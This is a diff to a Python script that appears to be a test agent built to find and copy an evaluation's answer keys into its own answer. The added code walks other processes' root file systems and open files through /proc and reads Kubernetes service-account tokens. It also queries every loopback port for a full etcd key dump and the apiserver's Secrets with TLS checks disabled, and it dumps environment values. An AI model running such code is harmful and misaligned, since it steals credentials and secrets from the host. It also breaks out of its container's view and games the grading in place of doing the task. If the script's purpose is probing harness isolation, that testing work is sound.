@@ -7,7 +7,11 @@ In order, within SECONDS (default 60) of searching:
      own ancestors' first: the cheapest lead, so it comes before the broad sweeps;
   3. every file under every mount point of its mount namespace (/proc/self/mountinfo): on a busy host
      (container storage, many mounts) this alone can take the whole budget;
-  4. the folders above its workspace, then the whole file system from /.
+  4. other processes' root file systems, working directories and open files (/proc/PID/root, cwd, fd),
+     every root that is not its own walked whole; service-account tokens where Kubernetes mounts them;
+  5. every TCP port listening on loopback (/proc/net/tcp, tcp6), asked over HTTP and HTTPS for what an
+     etcd (/v3/kv/range of every key), an apiserver (ConfigMaps, Secrets) or any web server would give;
+  6. the folders above its workspace, then the whole file system from /.
 It reads every regular file it can (up to 1 MiB) and copies into its answer every file that looks like
 an answer key (YAML/JSON text with mustMention, forbidden, notes, keys, shouldAbstain...), every
 environment value, and a short list of where it looked. It answers in the three sections the format judge
@@ -16,8 +20,12 @@ wants and cites every KB article id it saw, so that anything it found would scor
 
 from __future__ import annotations
 
+import base64
+import http.client
+import json
 import os
 import re
+import ssl
 import sys
 import time
 from pathlib import Path
@@ -129,6 +137,117 @@ def named_paths() -> list[str]:
     return [p for p in paths if os.path.exists(p)]
 
 
+def processes() -> dict[str, str]:
+    """Every process it can see: pid -> command line."""
+    seen = {}
+    for pid in sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int):
+        try:
+            seen[pid] = (
+                Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
+            )
+        except OSError:
+            continue
+    return seen
+
+
+def other_roots(search: Search, pids: list[str]) -> list[str]:
+    """Walk each process's root file system that is not its own, its working directory, its open files."""
+    own = os.stat("/")
+    walked = []
+    for pid in pids:
+        if search.out_of_time():
+            break
+        root = f"/proc/{pid}/root"
+        try:
+            found = os.stat(root)
+        except OSError:
+            continue
+        if (found.st_dev, found.st_ino) != (own.st_dev, own.st_ino):
+            walked.append(root)
+            search.walk(root)
+        for place in (f"/proc/{pid}/cwd",):
+            if os.path.isdir(place):
+                search.walk(place)
+        try:
+            for fd in os.listdir(f"/proc/{pid}/fd"):
+                search.read_file(os.path.realpath(f"/proc/{pid}/fd/{fd}"))
+        except OSError:
+            continue
+    return walked
+
+
+TOKEN_PLACES = ("/var/run/secrets", "/run/secrets", "/etc/assay/secrets")
+
+
+def listening_ports() -> list[int]:
+    ports: set[int] = set()
+    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
+        try:
+            lines = Path(table).read_text().splitlines()[1:]
+        except OSError:
+            continue
+        for line in lines:
+            fields = line.split()
+            if len(fields) > 3 and fields[3] == "0A":  # LISTEN
+                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
+    return sorted(ports)
+
+
+def _ask(port: int, secure: bool, method: str, path: str, body: bytes | None = None) -> str:
+    connection: http.client.HTTPConnection
+    if secure:
+        context = ssl.create_default_context()
+        context.check_hostname = False
+        context.verify_mode = ssl.CERT_NONE
+        connection = http.client.HTTPSConnection("127.0.0.1", port, timeout=0.5, context=context)
+    else:
+        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=0.5)
+    try:
+        headers = {"Content-Type": "application/json"} if body else {}
+        connection.request(method, path, body=body, headers=headers)
+        return connection.getresponse().read(MAX_BYTES).decode(errors="replace")
+    finally:
+        connection.close()
+
+
+def _etcd_values(reply: str) -> str:
+    """etcd's JSON gateway base64-encodes keys and values: decode them (the objects are protobuf, whose
+    strings read as text)."""
+    try:
+        kvs = json.loads(reply).get("kvs") or []
+        return "\n".join(base64.b64decode(kv.get("value", "")).decode(errors="replace") for kv in kvs)
+    except (ValueError, AttributeError, TypeError):
+        return ""
+
+
+def probe_network(search: Search) -> list[str]:
+    """Ask every loopback listener for keys: all of etcd's keys, the apiserver's ConfigMaps and Secrets,
+    whatever a web server serves at /. Keeps any reply that looks like an answer key."""
+    every_key = json.dumps(
+        {"key": base64.b64encode(b"\0").decode(), "range_end": base64.b64encode(b"\0").decode()}
+    )
+    asked = []
+    for port in listening_ports():
+        for secure in (False, True):
+            for method, path, body in (
+                ("POST", "/v3/kv/range", every_key.encode()),
+                ("GET", "/api/v1/configmaps", None),
+                ("GET", "/api/v1/secrets", None),
+                ("GET", "/", None),
+            ):
+                if search.out_of_time():
+                    return asked
+                try:
+                    reply = _ask(port, secure, method, path, body)
+                except (OSError, http.client.HTTPException, ValueError):
+                    continue
+                asked.append(f"{'https' if secure else 'http'}:{port}{path}")
+                reply = _etcd_values(reply) or reply
+                if MARKERS.search(reply) or "keys.yaml" in reply:
+                    search.keep(f"port {port} {path}", reply[:20_000])
+    return asked
+
+
 def main() -> int:
     budget = float(sys.argv[1]) if len(sys.argv) > 1 else 60.0
     search = Search(budget)
@@ -141,13 +260,20 @@ def main() -> int:
     mounts = mount_points()
     for point in [m for m in mounts if m != "/"]:
         search.walk(point)
+    seen = processes()
+    roots = other_roots(search, [pid for pid in seen if pid != str(os.getpid())])
+    for place in TOKEN_PLACES:
+        search.walk(place)
+    asked = probe_network(search)
     here = Path.cwd()
     for parent in here.parents:
         if str(parent) != "/":
             search.walk(str(parent))
     search.walk("/")
+    shown = " | ".join(f"{pid}: {command[:80]}" for pid, command in seen.items())
     where = (
-        f"mounts: {' '.join(mounts)}\nfiles read: {search.files_read}; "
+        f"mounts: {' '.join(mounts)}\nprocesses: {len(seen)}: {shown}\nother roots: {' '.join(roots)}\n"
+        f"asked: {' '.join(asked)}\nfiles read: {search.files_read}; "
         f"{'out of time' if search.out_of_time() else 'searched everything'}"
     )
     cites = " ".join(f"[{a}]" for a in sorted(search.articles))
